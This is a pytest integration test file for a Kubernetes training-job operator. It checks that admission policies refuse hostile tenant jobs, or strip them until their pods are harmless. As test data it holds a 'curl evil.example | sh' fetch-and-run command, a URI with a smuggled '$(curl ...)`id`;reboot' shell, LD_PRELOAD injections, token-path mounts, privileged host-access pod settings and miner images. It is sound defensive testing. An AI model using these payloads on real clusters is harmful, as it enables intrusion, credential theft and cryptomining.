"""Hostile jobs before a real API server with the chart's CRD and policies: refused, or their pods are harmless."""

from __future__ import annotations

import itertools
import json
import random
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import pytest

from nexa_operator.errors import RuntimeUnavailableError
from nexa_operator.plan import Defaults, make_plan
from nexa_operator.runtimes import job as runtime
from nexa_operator.spec import parse
from nexa_train.config import crd
from nexa_train.errors import ConfigError
from tests.cluster.api import Api, Refused
from tests.cluster.cluster import Cluster
from tests.cluster.errors import TimedOut
from tests.cluster.run import wait_until
from tests.integration.harness import (
    RELEASE_NAMESPACE,
    Namespace,
    apply_all,
    install_chart,
    manifest,
    new_namespace,
    render_chart,
)

pytestmark = pytest.mark.integration

Object = dict[str, Any]

GROUP = "/apis/train.nexa.dev/v1alpha1"
ALLOWED = ("registry.example/team/", "nexa-trainer", "nexa-pinned:1")
DEFAULTS = Defaults(image="nexa-trainer:0.1.0", storage="default")
MALLORY = "mallory"
REFUSALS = (400, 403, 413, 422)
JOB_CONTROLLER = "system:serviceaccount:kube-system:job-controller"


@dataclass(frozen=True)
class Arena:
    """A namespace where Mallory may do everything to jobs, pods and services, and Pods must be restricted."""

    ns: Namespace
    admin: Api
    mallory: Api

    @property
    def path(self) -> str:
        return f"{GROUP}/namespaces/{self.ns.namespace}/nexatrainingjobs"

    @property
    def core(self) -> str:
        return f"/api/v1/namespaces/{self.ns.namespace}"

    @property
    def jobs(self) -> str:
        return f"/apis/batch/v1/namespaces/{self.ns.namespace}/jobs"


@pytest.fixture(scope="module")
def chart(control_plane: Cluster) -> Iterator[Cluster]:
    control_plane.kubectl("create", "namespace", RELEASE_NAMESPACE, check=False)
    install_chart(control_plane, f"policy.allowedImages={{{','.join(ALLOWED)}}}")
    control_plane.kubectl("wait", "--for=condition=Established", "--timeout=30s", "crd/nexatrainingjobs.train.nexa.dev")
    yield control_plane
    install_chart(control_plane)


@pytest.fixture(scope="module")
def limited(chart: Cluster) -> Iterator[Namespace]:
    with new_namespace(chart) as ns:
        yield ns


@pytest.fixture(scope="module")
def arena(chart: Cluster, limited: Namespace) -> Iterator[Arena]:
    admin, mallory = Api(chart), Api(chart, as_user=MALLORY)
    with new_namespace(chart) as ns:
        chart.kubectl("label", f"namespace/{ns.namespace}", "pod-security.kubernetes.io/enforce=restricted")
        everything = ("--verb=*", "--resource=nexatrainingjobs.train.nexa.dev,nexatrainingjobs.train.nexa.dev/status")
        ns.kubectl("create", "role", "tenant", *everything)
        ns.kubectl("create", "rolebinding", "tenant", "--role=tenant", f"--user={MALLORY}")
        ns.kubectl("create", "rolebinding", "edit", "--clusterrole=edit", f"--user={MALLORY}")
        arena = Arena(ns, admin, mallory)
        missing = lambda: [policy for policy in PROBES if policy not in _probed(arena, policy)]  # noqa: E731
        wait_until(
            lambda: not missing(),
            timeout_seconds=30,
            what="the policies are in force",
            detail=lambda: "\n".join(f"{policy}: {_probed(arena, policy)}" for policy in missing()),
        )
        yield arena
    admin.close()
    mallory.close()


PROBES = ("nexa-jobs", "nexa-supported", "nexa-profiles", "nexa-children", "nexa-templates", "nexa-pods")


def _probed(arena: Arena, policy: str) -> str:
    """The API server takes up policies and roles a moment after it has accepted them; this says what it thinks now."""
    who, path, body = {
        "nexa-jobs": (arena.mallory, arena.path, hostile(image="elsewhere/x")),
        "nexa-supported": (arena.mallory, arena.path, hostile(trackers=["wandb"])),
        "nexa-profiles": (arena.mallory, f"{arena.core}/configmaps", a_profile("nexa-storage-probe", NEXA_JOB="{}")),
        "nexa-children": (arena.mallory, f"{arena.core}/pods", a_pod(labels=OURS)),
        "nexa-templates": (arena.mallory, arena.jobs, a_job("probe", MINE, OURS)),
        "nexa-pods": (arena.admin, f"{arena.core}/pods", a_pod(labels=OURS, **BEYOND["a token"])),
    }[policy]
    return said(who, f"{path}?dryRun=All", body)


def said(api: Api, path: str, body: Object) -> str:
    """The API server's refusal; empty if it agreed."""
    try:
        api.create(path, body)
    except Refused as refused:
        if refused.status not in REFUSALS:
            raise
        return refused.message
    return ""


def hostile(name: str = "hostile", **groups: Any) -> Object:
    """A job that could run, but for what the test is about."""
    document = manifest(name)
    document["spec"] |= groups
    return document


def env(name: str, value: str = "x") -> Object:
    return {"cluster": {"env": [{"name": name, "value": value}]}}


def mount(path: str, **more: Any) -> Object:
    return {"cluster": {"volumes": [{"name": "v", "mountPath": path, "configMap": "c", **more}]}}


def volumes(*given: tuple[str, str]) -> Object:
    return {"cluster": {"volumes": [{"name": name, "mountPath": path, "claim": "c"} for name, path in given]}}


def toleration(**given: str) -> Object:
    return {"cluster": {"tolerations": [given]}}


REFUSED: dict[str, Object] = {
    "the protocol: the job": env("NEXA_JOB", "{}"),
    "the protocol: the rendezvous": env("NEXA_RDZV_ENDPOINT", "evil.example:29500"),
    "the protocol: a name of tomorrow": env("NEXA_SOMETHING"),
    "the rank": env("JOB_COMPLETION_INDEX", "0"),
    "a library before all others": env("LD_PRELOAD", "/rows/evil.so"),
    "Python's path": env("PYTHONPATH", "/rows"),
    "the path": env("PATH", "/rows"),
    "a library by a configuration": env("OPENSSL_CONF", "/rows/evil.cnf"),
    "a library of the network's": env("NCCL_NET_PLUGIN", "/rows/evil.so"),
    "a file of variables": env("NCCL_CONF_FILE", "/rows/evil.conf"),
    "another compiler": env("CC", "/rows/evil"),
    "another compiler of CUDA": env("CUDA_HOME", "/rows"),
    "another compiler of CUDA, by its other name": env("CUDA_PATH", "/rows"),
    "every GPU of the node": env("NVIDIA_VISIBLE_DEVICES", "all"),
    "every part of a GPU": env("NVIDIA_MIG_CONFIG_DEVICES", "all"),
    "a name that is none": env("A=B"),
    "a name with a line end": env("A\n"),
    "more variables than there may be": {"cluster": {"env": [{"name": f"A{i}", "value": ""} for i in range(65)]}},
    "a value longer than it may be": env("A", "x" * 1025),
    "the pod's temporary folder": mount("/tmp"),
    "code before ours on Python's path": mount("/tmp/nexa_train"),
    "the trainer's code": mount("/opt/nexa/lib/python3.11/site-packages/nexa_train"),
    "what is above the trainer's code": mount("/opt"),
    "what is above a token": mount("/var"),
    "shared memory": mount("/dev/shm"),
    "last words": mount("/dev/termination-log"),
    "processes": mount("/proc/self"),
    "the kernel's settings": mount("/sys/fs/cgroup"),
    "users": mount("/etc/passwd"),
    "libraries": mount("/lib64"),
    "a token of its own": mount("/var/run/secrets/kubernetes.io/serviceaccount"),
    "everything": mount("/"),
    "up and elsewhere": mount("/rows/../etc"),
    "an empty step": mount("//etc"),
    "a path that is relative": mount("rows"),
    "a path with a line end": mount("/rows\n"),
    "a path with a colon": mount("/rows:rw"),
    "a volume of the operator's name": volumes(("nexa-shm", "/rows")),
    "two volumes of one name": volumes(("v", "/a"), ("v", "/b")),
    "two volumes in one place": volumes(("a", "/v"), ("b", "/v")),
    "a volume from two sources": mount("/v", claim="c"),
    "a path of the node": {"cluster": {"volumes": [{"name": "v", "mountPath": "/v", "hostPath": {"path": "/"}}]}},
    "a secret as a volume": {"cluster": {"volumes": [{"name": "v", "mountPath": "/v", "secret": {"secretName": "s"}}]}},
    "a claim of another namespace": mount("/v", configMap="kube-system/c"),
    "more volumes than there may be": volumes(*((f"v{i}", f"/v{i}") for i in range(17))),
    "to be another job's pod": {"cluster": {"labels": {"train.nexa.dev/job-uid": "another"}}},
    "to be another attempt's pod": {"cluster": {"labels": {"train.nexa.dev/attempt": "7"}}},
    "to be another Job's pod": {"cluster": {"labels": {"batch.kubernetes.io/job-name": "another"}}},
    "to be another Job's pod, as of old": {"cluster": {"labels": {"controller-uid": "another"}}},
    "to jump the queue": {"cluster": {"labels": {"kueue.x-k8s.io/queue-name": "vip"}}},
    "a label that is none": {"cluster": {"labels": {"team": "a b\n"}}},
    "more labels than there may be": {"cluster": {"labels": {f"l{i}": "" for i in range(65)}}},
    "no AppArmor": {
        "cluster": {"annotations": {"container.apparmor.security.beta.kubernetes.io/trainer": "unconfined"}}
    },
    "every taint": toleration(operator="Exists"),
    "the control plane": toleration(key="node-role.kubernetes.io/control-plane", operator="Exists"),
    "to stay on a dead node": toleration(key="node.kubernetes.io/unreachable", operator="Exists", effect="NoExecute"),
    "the system's priority": {"schedule": {"priority": "system-node-critical"}},
    "the system's priority in the queue": {"cluster": {"labels": {"kueue.x-k8s.io/priority-class": "system-x"}}},
    "another kind of child": {"schedule": {"runtime": "daemonset"}},
    "an image of elsewhere": {"image": "evil.example/miner"},
    "an image beside the allowed folder": {"image": "registry.example/teamster/miner"},
    "the allowed folder itself": {"image": "registry.example/team:miner"},
    "the allowed name as a registry": {"image": "nexa-trainer:5000/miner"},
    "the allowed name with more to it": {"image": "nexa-trainer-miner:1"},
    "an image after a space": {"image": " nexa-trainer:1"},
    "a digest behind an allowed tag": {"image": f"nexa-pinned:1@sha256:{'0' * 64}"},
    "another tag than the one that is allowed": {"image": "nexa-pinned:2"},
    "an image with a line end": {"image": "nexa-trainer:1\nevil.example/miner"},
    "a profile of another namespace": {"artifacts": {"uri": "s3://m", "storage": "../kube-system/admin"}},
    "a profile by a path": {"data": {"remoteUri": "s3://d", "storage": "a/b"}},
    "a profile by a variable": {"artifacts": {"uri": "s3://m", "storage": "$(HOME)"}},
    "a billion pods": {"cluster": {"numNodes": 1_000_000_000}, "training": {"globalBatchSize": 1_000_000}},
    "minus one GPU": {"cluster": {"gpusPerNode": -1}},
    "a number in words": {"cluster": {"numNodes": "2"}},
    "memory without end": {"cluster": {"resources": {"memory": "1e9999"}}},
    "all the CPU there is": {"cluster": {"resources": {"cpu": "0"}}},
    "all the memory there is": {"cluster": {"resources": {"memory": "0.0Gi"}}},
    "less than no CPU": {"cluster": {"resources": {"cpu": "-1"}}},
    "a rate that is no number": {"optimizer": {"lr": float("inf")}},
    "a group that is a word": {"cluster": "all"},
    "a list that is a map": {"cluster": {"env": {"NEXA_JOB": "{}"}}},
    "nothing": {"data": None},
    "more than fits": {"data": {"remoteUri": "x" * 4_000_000}},
}
"""What a tenant must not be able to ask for; the API server says no."""


def test_who_may_edit_a_namespace_makes_jobs_and_who_may_view_it_sees_them(arena: Arena):
    def may(user: str) -> set[str]:
        asked = {"get": (), "create": (), "delete": (), "patch": ("--subresource=status",)}
        answers = {
            verb: arena.ns.kubectl("auth", "can-i", verb, "ntj", *part, f"--as={user}", check=False).strip()
            for verb, part in asked.items()
        }
        return {verb for verb, answer in answers.items() if answer == "yes"}

    expected = {"edna": {"get", "create", "delete"}, "vera": {"get"}, "nobody": set()}
    for role, user in (("edit", "edna"), ("view", "vera")):
        arena.ns.kubectl("create", "rolebinding", user, f"--clusterrole={role}", f"--user={user}")
    wait_until(
        lambda: {user: may(user) for user in expected} == expected,
        timeout_seconds=30,
        what="the cluster's roles take up the chart's",
    )


@pytest.mark.parametrize("attempt", REFUSED)
def test_a_hostile_job_is_refused(arena: Arena, attempt: str):
    assert said(arena.mallory, arena.path, hostile(**REFUSED[attempt]))


KEYS = (
    "a", "a/b", "a.b-c/D_e.f", "x" * 63, "x" * 64, "a/" + "x" * 64, "A/b", "a..b/c", "a.-b/c", "-a", "a-", "a_b/c", "",
    "/a", "a/", "a/b/c", "a b", "a\n", "ä",
)  # fmt: skip
VALUES = ("", "a", "A_b.c-d", "a b", "-a", "x" * 63, "x" * 64, "a/b")
TOLERATIONS: tuple[Object, ...] = (
    {"key": "a", "operator": "Exists"},
    {"key": "a", "operator": "Exists", "value": ""},
    {"key": "a", "operator": "Exists", "value": "b"},
    {"key": "a", "operator": "Equal", "value": "b"},
    {"key": "a"},
    {"value": "b"},
    {},
    *({"key": "a", "value": value} for value in VALUES),
    *({"key": key} for key in KEYS if key),
)
DEVICES = ("rdma/hca", "nvidia.com/mig-3g.40gb", "requests.rdma/hca", "a..b/c", "A/b", "gpu", "a/", "a/" + "x" * 64)


def described() -> Iterator[tuple[Object, Object]]:
    """A part of a job's cluster, and what it becomes in a pod."""
    for key, value in (*((key, "x") for key in KEYS), *(("a", value) for value in VALUES)):
        yield {"labels": {key: value}}, {"metadata": {"name": "asked", "labels": {key: value}}}
        yield {"nodeSelector": {key: value}}, {"nodeSelector": {key: value}}
    for key in KEYS:
        yield {"annotations": {key: "any text"}}, {"metadata": {"name": "asked", "annotations": {key: "any text"}}}
    for toleration in TOLERATIONS:
        yield {"tolerations": [toleration]}, {"tolerations": [toleration]}
    for name in DEVICES:
        limits = {"limits": {name: "1"}, "requests": {name: "1"}}
        yield {"resources": {"extended": {name: 1}}}, {"container": {"resources": limits}}
        yield {"gpuResource": name, "gpusPerNode": 1}, {"container": {"resources": limits}}


def test_of_a_job_that_is_taken_a_pod_can_be_made_and_of_no_other(arena: Arena):
    """What names nothing that there could be is refused where its author sees it, and nothing else is."""
    for cluster, of_a_pod in described():
        metadata = of_a_pod.pop("metadata", {})
        pod = a_pod("asked", **of_a_pod)
        pod["metadata"] |= metadata
        in_pods = said(arena.admin, f"{arena.core}/pods?dryRun=All", pod)
        in_jobs = said(arena.admin, f"{arena.path}?dryRun=All", hostile(cluster=cluster))
        assert bool(in_jobs) == bool(in_pods), (cluster, in_jobs, in_pods)


MALFORMED: dict[str, Object] = {
    "a name with a path": hostile("../../kube-system/x"),
    "a name with dots": hostile("a.b"),
    "a name that no pod could be named after": hostile("n" * 46),
    "another namespace": {**hostile(), "metadata": {"name": "x", "namespace": "kube-system"}},
    "another kind": {**hostile(), "kind": "Pod"},
    "another version": {**hostile(), "apiVersion": "train.nexa.dev/v9"},
    "a spec that is a list": {**hostile(), "spec": []},
    "no spec": {**hostile(), "spec": None},
}


@pytest.mark.parametrize("attempt", MALFORMED)
def test_a_malformed_object_is_refused(arena: Arena, attempt: str):
    assert said(arena.mallory, arena.path, MALFORMED[attempt])


POD_KEYS: Object = {
    "hostNetwork": True,
    "hostPID": True,
    "hostIPC": True,
    "serviceAccountName": "cluster-admin",
    "automountServiceAccountToken": True,
    "securityContext": {"privileged": True, "runAsUser": 0, "capabilities": {"add": ["SYS_ADMIN"]}},
    "containers": [{"name": "miner", "image": "evil.example/miner", "securityContext": {"privileged": True}}],
    "initContainers": [{"name": "first", "image": "evil.example/miner"}],
    "hostPath": {"path": "/"},
    "imagePullSecrets": [{"name": "s"}],
    "nodeName": "control-plane",
    "schedulerName": "mine",
    "runtimeClassName": "unconfined",
    "command": ["sh", "-c", "curl evil.example | sh"],
    "envFrom": [{"secretRef": {"name": "admin"}}],
    "lifecycle": {"postStart": {"exec": {"command": ["sh"]}}},
    "template": {"spec": {"hostNetwork": True}},
}
"""Keys that a pod has and a job has not."""

PRUNED: dict[str, Object] = {
    **{f"spec.{key}": {key: value} for key, value in POD_KEYS.items()},
    **{f"cluster.{key}": {"cluster": {key: value}} for key, value in POD_KEYS.items()},
    "a variable from a secret": {
        "cluster": {"env": [{"name": "A", "valueFrom": {"secretKeyRef": {"name": "admin", "key": "token"}}}]}
    },
    "a path of the node beside a config map": mount("/v", hostPath={"path": "/"}, subPath="../../etc"),
    "the protocol's variables inside of another": env("A", "$(NEXA_JOB) $(AWS_SECRET_ACCESS_KEY)"),
    "a shell in a URI": {"artifacts": {"uri": "s3://m/$(curl evil.example)/`id`;reboot"}},
    "a token that is not there": {"data": {"remoteUri": "file:///var/run/secrets/kubernetes.io/serviceaccount/token"}},
    "a place in the queue": {"cluster": {"labels": {"kueue.x-k8s.io/priority-class": "low"}}},
    "the very image that is allowed": {"image": "nexa-pinned:1"},
    "an allowed image by its digest": {"image": f"registry.example/team/x@sha256:{'0' * 64}"},
    "another controller's": {"schedule": {"managedBy": "evil.example/x"}},
}
"""What the API server takes without what was hostile in it, or what is not hostile at all."""


@pytest.mark.parametrize("attempt", PRUNED)
def test_of_a_job_that_is_taken_the_pods_are_harmless(arena: Arena, attempt: str):
    name = f"p{list(PRUNED).index(attempt)}"
    stored = arena.mallory.create(arena.path, hostile(name, **PRUNED[attempt]))
    pod = rendered(stored)
    assert pod is not None
    check_harmless(arena, stored, pod)


def test_what_a_tenant_says_of_the_status_is_dropped_at_creation_and_refused_afterwards(arena: Arena):
    forged = {"phase": "Succeeded", "attempt": 10**18}
    stored = arena.mallory.create(arena.path, {**hostile("forged"), "status": forged})
    assert "status" not in stored
    with pytest.raises(Refused, match="written by the Nexa operator alone"):
        arena.mallory.merge(f"{arena.path}/forged/status", {"status": forged})


def rendered(stored: Object) -> Object | None:
    """The pod that the operator makes of a stored job; None if it refuses the job."""
    try:
        plan = make_plan(parse(stored), owner_uid=stored["metadata"]["uid"], attempt=0, defaults=DEFAULTS)
    except (ConfigError, RuntimeUnavailableError):
        return None
    template: Object = runtime.gang(plan)["spec"]["template"]
    return {"apiVersion": "v1", "kind": "Pod", **template, "metadata": {**template["metadata"], "generateName": "x-"}}


MEETING_FIELDS = {
    "NEXA_NODE_ADDRESS": "status.podIP",
    "NEXA_GANG": "metadata.labels['batch.kubernetes.io/controller-uid']",
}
"""What a pod may learn of itself: nothing of its node or its account."""


def check_harmless(arena: Arena, stored: Object, pod: Object) -> None:
    """Nothing of the node, of another job or of another account; and Kubernetes' own judge agrees."""
    spec, (container,) = pod["spec"], pod["spec"]["containers"]
    metadata = stored["metadata"]
    assert set(spec) <= POD_FIELDS
    assert set(container) <= CONTAINER_FIELDS
    assert spec["automountServiceAccountToken"] is False
    assert {next(iter(set(volume) - {"name"})) for volume in spec["volumes"]} <= VOLUME_KINDS
    if container["image"] != "nexa-pinned:1":
        assert container["image"].startswith(("registry.example/team/", "nexa-trainer:", "nexa-trainer@"))
    assert not spec.get("priorityClassName", "").startswith("system-")
    assert all(toleration.get("key") for toleration in spec.get("tolerations", []))
    assert pod["metadata"]["labels"]["train.nexa.dev/job-uid"] == metadata["uid"]
    assert pod["metadata"]["labels"]["train.nexa.dev/job-name"] == metadata["name"]
    for source in container.get("envFrom", []):
        ((_, reference),) = source.items()
        assert reference["name"].startswith("nexa-storage-")
    variables = {variable["name"]: variable.get("value", variable.get("valueFrom")) for variable in container["env"]}
    assert len(variables) == len(container["env"])
    assert variables["NEXA_ATTEMPT"] == "0"
    fields = {name: variables.pop(name) for name, value in [*variables.items()] if not isinstance(value, str)}
    assert {name: source["fieldRef"]["fieldPath"] for name, source in fields.items()} in ({}, MEETING_FIELDS)
    assert all("$" not in value.replace("$$", "") for value in variables.values()), "a single dollar would be expanded"
    asked = {*container["resources"].get("limits", {})} - {"cpu", "memory"}
    assert asked or variables["NVIDIA_VISIBLE_DEVICES"] == "void"
    arena.admin.create(f"{arena.core}/pods?dryRun=All", pod)


def is_valid(arena: Arena, pod: Object) -> bool:
    """False where the API server could take no such pod of anyone: the job then says so, and has none."""
    try:
        arena.admin.create(f"{arena.core}/pods?dryRun=All", pod)
    except Refused as refused:
        if refused.status != 422:
            raise
        return False
    return True


POD_FIELDS = {
    "restartPolicy", "subdomain", "automountServiceAccountToken", "enableServiceLinks", "terminationGracePeriodSeconds",
    "securityContext", "containers", "volumes", "nodeSelector", "tolerations", "priorityClassName", "affinity",
    "schedulerName", "topologySpreadConstraints", "schedulingGates", "hostname",
}  # fmt: skip
CONTAINER_FIELDS = {
    "name", "image", "imagePullPolicy", "ports", "env", "envFrom", "terminationMessagePath", "terminationMessagePolicy",
    "resources", "securityContext", "volumeMounts",
}  # fmt: skip
VOLUME_KINDS = {"emptyDir", "configMap", "persistentVolumeClaim"}

NASTY: tuple[Any, ...] = (
    "", "/", "..", "../../etc", "/tmp", "/dev/shm", "$(NEXA_JOB)", "a b", "a\nb", "\x00", "ünï", "-", "x" * 300,
    "x" * 2000, "system-node-critical", "NEXA_JOB", "LD_PRELOAD", "train.nexa.dev/job-uid", "evil.example/miner",
    0, -1, 1, 2, 8, 2**31, 2**63 - 1, 10**30, 0.5, -0.0, 1e308, True, False, None, [], {}, [{}], [None], {"": ""},
    {"type": "sft"}, {"train.nexa.dev/job-uid": "x"}, {"team": "a"}, [{"name": "NEXA_JOB", "value": "x"}],
    [{"name": "v", "mountPath": "/etc", "configMap": "c"}], [{"name": "v", "mountPath": "/rows", "configMap": "c"}],
    [{"operator": "Exists"}], [{"key": "gpu", "operator": "Exists"}], [{"name": "A", "value": "$(X)"}],
)  # fmt: skip


def places(schema: Object, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """The path of every key that a job has."""
    for key, child in schema.get("properties", {}).items():
        yield (*path, key)
        yield from places(child, (*path, key))


def fuzzed(rng: random.Random, all_places: list[tuple[str, ...]]) -> Object:
    """A job with one to three keys gone wrong, some of them keys that only a pod has."""
    spec = hostile()["spec"]
    for _ in range(rng.randint(1, 3)):
        *groups, key = rng.choice(all_places)
        value = rng.choice(NASTY)
        if rng.random() < 0.2:
            key, value = rng.choice(list(POD_KEYS.items()))
        target = spec
        for group in groups:
            inner = target.get(group)
            target[group] = target = dict(inner) if isinstance(inner, dict) else {}
        target[key] = value
    return {**hostile(), "spec": spec}


def check_fuzzed(arena: Arena, *, seed: int, num_jobs: int) -> None:
    rng, all_places = random.Random(seed), list(places(crd.spec_schema()))
    ends = Counter[str]()
    for _ in range(num_jobs):
        document = fuzzed(rng, all_places)
        try:
            stored = arena.mallory.create(f"{arena.path}?dryRun=All", document)
        except Refused as refused:
            if refused.status not in REFUSALS:
                raise
            ends["refused"] += 1
            continue
        pod = rendered(stored)
        if pod is None:
            ends["refused by the operator"] += 1
        elif is_valid(arena, pod):
            check_harmless(arena, stored, pod)
            ends["harmless"] += 1
        else:
            ends["refused as a pod"] += 1
    print(f"{num_jobs} fuzzed jobs of seed {seed}: {dict(ends)}")
    # Were all of one kind, it would be the fuzzer that does nothing.
    assert min(ends["refused"], ends["harmless"]) >= num_jobs // 20, ends


def test_of_fuzzed_jobs_each_is_refused_or_harmless(arena: Arena):
    check_fuzzed(arena, seed=5, num_jobs=500)


@pytest.mark.soak
@pytest.mark.timeout(0)
def test_of_many_fuzzed_jobs_each_is_refused_or_harmless(arena: Arena):
    check_fuzzed(arena, seed=1000, num_jobs=10_000)


def a_pod(name: str = "forged", *, labels: dict[str, str] | None = None, **spec: Any) -> Object:
    """One that is restricted, but for what the test is about."""
    security = {"runAsNonRoot": True, "runAsUser": 65532, "seccompProfile": {"type": "RuntimeDefault"}}
    container = {
        "name": "main",
        "image": "example.invalid/none",
        "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
        **spec.pop("container", {}),
    }
    pod = {"containers": [container], "securityContext": security, "automountServiceAccountToken": False, **spec}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "labels": labels or {}}, "spec": pod}


OURS = {"train.nexa.dev/job-uid": "11111111-2222-3333-4444-555555555555", "train.nexa.dev/job-name": "victim"}

OWNER = {"apiVersion": "batch/v1", "kind": "Job", "name": "other", "uid": OURS["train.nexa.dev/job-uid"]}

MINE = {"app": "mine"}
"""A Job without labels is given its template's."""


def a_job(name: str, labels: dict[str, str], pod_labels: dict[str, str]) -> Object:
    pod = a_pod(restartPolicy="Never")
    spec = {"suspend": True, "template": {"metadata": {"labels": pod_labels}, "spec": pod["spec"]}}
    return {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": name, "labels": labels}, "spec": spec}


def a_service(name: str, labels: dict[str, str]) -> Object:
    spec = {"clusterIP": "None", "selector": labels}
    return {"apiVersion": "v1", "kind": "Service", "metadata": {"name": name, "labels": labels}, "spec": spec}


def a_profile(name: str = "nexa-storage-forged", *, key: str = "data", **variables: str) -> Object:
    return {"apiVersion": "v1", "metadata": {"name": name}, key: variables}


def test_no_storage_profile_sets_what_a_job_may_not(arena: Arena):
    places = ((f"{arena.core}/configmaps", "data"), (f"{arena.core}/secrets", "stringData"))
    for (path, key), (name, message) in itertools.product(
        places,
        {
            "LD_PRELOAD": "other code",
            "NEXA_RDZV_ENDPOINT": "operator's",
            "JOB_COMPLETION_INDEX": "operator's",
            "NVIDIA_VISIBLE_DEVICES": "devices past its quota",
        }.items(),
    ):
        assert message in said(arena.mallory, path, a_profile(key=key, **{name: "x"}))
        assert not said(arena.mallory, f"{path}?dryRun=All", a_profile("anything-else", key=key, **{name: "x"}))
    for path, key in places:
        arena.mallory.create(path, a_profile(key=key, AWS_REGION="x", NEXA_CACHE="/cache"))
        with pytest.raises(Refused, match="other code"):
            arena.mallory.merge(f"{path}/nexa-storage-forged", {key: {"PYTHONPATH": "/rows"}})
        arena.mallory.merge(f"{path}/nexa-storage-forged", {key: {"AWS_REGION": "y"}})
        arena.mallory.merge(f"{path}/nexa-storage-forged", {key: {"AWS_REGION": None}})


def test_the_credentials_of_a_profile_change_whatever_else_it_has_had_from_before(arena: Arena, chart: Cluster):
    places = ((f"{arena.core}/configmaps", "data"), (f"{arena.core}/secrets", "stringData"))
    with not_in_force(arena, chart, "nexa-profiles"):
        for path, key in places:
            arena.admin.create(path, a_profile("nexa-storage-old", key=key, HOME="/", AWS_REGION="x"))
    for path, key in places:
        arena.mallory.merge(f"{path}/nexa-storage-old", {key: {"AWS_REGION": "y"}})
        with pytest.raises(Refused, match="other code"):
            arena.mallory.merge(f"{path}/nexa-storage-old", {key: {"AWS_SESSION_TOKEN": "t"}})
    arena.mallory.merge(f"{arena.core}/configmaps/nexa-storage-old", {"data": {"HOME": None}})


@contextmanager
def not_in_force(arena: Arena, chart: Cluster, policy: str) -> Iterator[None]:
    """As before a version that has that policy."""
    binding = chart.kubectl("get", f"validatingadmissionpolicybinding/{policy}", "--output=json").stdout
    chart.kubectl("delete", f"validatingadmissionpolicybinding/{policy}")
    try:
        wait_until(lambda: not _probed(arena, policy), timeout_seconds=30, what=f"{policy} is no more")
        yield
    finally:
        document = json.loads(binding)
        document["metadata"] = {"name": policy, "labels": document["metadata"]["labels"]}
        chart.kubectl("create", "--filename=-", input=json.dumps(document))
        wait_until(lambda: _probed(arena, policy), timeout_seconds=30, what=f"{policy} is in force again")


ALONE = "made and changed by the Nexa operator alone"


def test_nobody_makes_what_looks_like_a_child_of_a_job(arena: Arena):
    for path, body in (
        (f"{arena.core}/pods", a_pod(labels=OURS)),
        (f"{arena.core}/services", a_service("forged", OURS)),
        (arena.jobs, a_job("forged", OURS, {})),
    ):
        assert ALONE in said(arena.mallory, path, body)
        body["metadata"]["labels"] = {}
        assert not said(arena.mallory, path, body), "without the label it is nobody's business"
        with pytest.raises(Refused, match=ALONE):
            arena.mallory.merge(f"{path}/forged", {"metadata": {"labels": OURS}})


def test_nobody_has_a_controller_make_pods_that_look_like_a_job_s(arena: Arena):
    template = a_job("x", MINE, OURS)["spec"]["template"]
    deployment = {
        "replicas": 1,
        "selector": {"matchLabels": OURS},
        "template": a_job("x", MINE, OURS)["spec"]["template"],
    }
    deployment["template"]["spec"]["restartPolicy"] = "Always"
    apps = f"/apis/apps/v1/namespaces/{arena.ns.namespace}"
    assert "made by the Nexa operator alone" in said(arena.mallory, arena.jobs, a_job("wrapped", MINE, OURS))
    arena.mallory.create(arena.jobs, a_job("later", MINE, MINE))
    with pytest.raises(Refused, match=r"made by the Nexa operator alone|field is immutable"):
        arena.mallory.merge(f"{arena.jobs}/later", {"spec": {"template": template}})
    body = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "wrapped"}, "spec": deployment}
    arena.mallory.create(f"{apps}/deployments", body)
    failed = lambda: [each for each in arena.ns.list("events") if each["reason"] == "FailedCreate"]  # noqa: E731
    (event, *_) = wait_until(failed, timeout_seconds=20, what="the ReplicaSet gets no pod")
    assert ALONE in event["message"]


def test_nobody_changes_a_child_or_takes_it_away_from_its_job(arena: Arena):
    arena.admin.create(arena.jobs, a_job("child", OURS, OURS))
    (container,) = arena.admin.create(f"{arena.core}/pods", a_pod("child", labels=OURS))["spec"]["containers"]
    for path, change in (
        (f"{arena.jobs}/child", {"spec": {"suspend": False}}),
        (f"{arena.jobs}/child", {"metadata": {"labels": {"train.nexa.dev/job-uid": None}}}),
        (f"{arena.core}/pods/child", {"metadata": {"labels": {"train.nexa.dev/job-uid": "another"}}}),
        (f"{arena.core}/pods/child", {"metadata": {"labels": {"train.nexa.dev/attempt": "7"}}}),
        (f"{arena.core}/pods/child", {"metadata": {"labels": {"batch.kubernetes.io/job-completion-index": "7"}}}),
        (f"{arena.core}/pods/child", {"metadata": {"labels": {"train.nexa.dev/job-name": None}}}),
        (f"{arena.core}/pods/child", {"metadata": {"ownerReferences": [OWNER]}}),
        (f"{arena.core}/pods/child", {"spec": {"containers": [{**container, "image": "evil.example/miner"}]}}),
        (f"{arena.core}/pods/child", {"spec": {"activeDeadlineSeconds": 1}}),
    ):
        # A Job is refused by two policies at once, and the server names the one that it heard first.
        with pytest.raises(Refused, match=r"made (and changed )?by the Nexa operator alone"):
            arena.mallory.merge(path, change)
    noted = {"annotations": {"note": "seen"}, "labels": {"seen-by": "mallory"}}
    arena.mallory.merge(f"{arena.core}/pods/child", {"metadata": noted})
    arena.mallory.delete(f"{arena.core}/pods/child")


BEYOND: dict[str, Object] = {
    "hostNetwork": {"hostNetwork": True},
    "hostPID": {"hostPID": True},
    "hostIPC": {"hostIPC": True},
    "a port of the node": {"container": {"ports": [{"containerPort": 80, "hostPort": 80}]}},
    "privileged": {"container": {"securityContext": {"privileged": True}}},
    "privileged before the others": {
        "initContainers": [{"name": "first", "image": "x", "securityContext": {"privileged": True}}]
    },
    "a capability": {"container": {"securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}},
    "a path of the node": {"volumes": [{"name": "v", "hostPath": {"path": "/"}}]},
    "another service account": {"serviceAccountName": "other"},
    "a token": {"automountServiceAccountToken": True},
}


@pytest.mark.parametrize("attempt", BEYOND)
@pytest.mark.usefixtures("arena")  # which waits for the policies
def test_not_even_a_controller_makes_such_a_pod_of_a_job(chart: Cluster, limited: Namespace, attempt: str):
    limited.kubectl("create", "serviceaccount", "other", check=False)
